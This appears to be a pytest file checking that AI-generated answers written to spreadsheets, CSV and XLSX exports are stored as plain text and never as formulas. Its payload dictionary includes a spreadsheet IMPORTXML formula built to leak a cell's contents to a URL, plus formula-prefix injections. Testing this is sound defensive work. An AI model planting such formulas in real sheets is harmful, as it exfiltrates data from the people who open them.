"""Answers that a spreadsheet would run, or that no cell holds: text wherever they go, neighbours intact."""

from __future__ import annotations

import csv
import io
import time
from typing import Any

import openpyxl
import pytest
import requests

from tests.stack import LocalStack

NASTY = {
    "Import": '=IMPORTXML("http://127.0.0.1/?leak="&A1,"//a")',
    "Plus": "+1",
    "Sum": "@SUM(A1:A9)",
    "Tab": "\t=1+1",
    "Return": "\r=1+1",
    "Minus": "-2+3",
    "Long": "x" * 60_000,
    "LongFormula": "=" + "1+" * 30_000,
}
DANGEROUS = tuple("=+-@\t\r\n")


@pytest.fixture(scope="module")
def nasty(stack: LocalStack) -> tuple[str, str]:
    """A run whose answers are poisoned row by row: the sheet and the job."""
    tag = time.time_ns()
    names = [name for kind in NASTY for name in (f"{kind}Firm {tag}", f"Neighbour {kind} {tag}")]
    rules = [
        {"fault": "formula", "when": [f"{kind}Firm {tag}"], "text": text} for kind, text in NASTY.items()
    ]
    stack.faults(stack.model_url, rules=rules)
    sheet = stack.a_sheet([[name, "tools; saws", "Sells saws."] for name in names])
    job = stack.wait(stack.queue(sheet)["id"])
    assert job["status"] == "COMPLETED"
    assert (job["counts"]["done"], job["counts"]["failed"]) == (14, 2), job
    return sheet, job["id"]


def test_in_the_sheet_it_is_text(stack: LocalStack, nasty: tuple[str, str]) -> None:
    fields = "sheets.data.rowData.values.userEnteredValue"
    answer = stack.person.as_owner(
        "GET", f"/{nasty[0]}", params={"includeGridData": "true", "fields": fields}
    )
    rows: list[dict[str, Any]] = answer["sheets"][0]["data"][0]["rowData"]
    for row in rows:
        for cell in row.get("values", []):
            entered = cell.get("userEnteredValue", {})
            assert set(entered) <= {"stringValue"}
            assert not entered.get("stringValue", "").startswith(DANGEROUS)
    for _, *poisoned in stack.table(nasty[0])[1::2]:
        long = poisoned[-1].startswith("❌ Error: The model's")
        assert long or poisoned[-1] == "✅ Complete"
        assert all(cell == "" for cell in poisoned[2:5]) if long else all(poisoned[2:5])
    for _, *neighbour in stack.table(nasty[0])[2::2]:
        assert neighbour[-1] == "✅ Complete"
        assert all(neighbour[2:5])


def download(stack: LocalStack, job_id: str, kind: str) -> bytes:
    link = stack.person.ask("POST", f"/api/jobs/{job_id}/downloads/{kind}")
    answer = requests.get(link["url"], timeout=30)
    answer.raise_for_status()
    assert requests.get(link["url"], timeout=30).status_code == 404, "a link is good for one download"
    return answer.content


def test_in_the_csv_nothing_starts_as_a_formula(stack: LocalStack, nasty: tuple[str, str]) -> None:
    text = download(stack, nasty[1], "csv").decode("utf-8-sig")
    header, *rows = csv.reader(io.StringIO(text, newline=""))
    assert len(rows) == 16
    assert "Category" in header
    assert not [cell for row in rows for cell in row if cell.startswith(DANGEROUS)]


def test_in_the_xlsx_there_is_no_formula(stack: LocalStack, nasty: tuple[str, str]) -> None:
    book = openpyxl.load_workbook(io.BytesIO(download(stack, nasty[1], "xlsx")))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert len({cell.row for cell in cells}) == 17
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    assert not [cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith("=")]
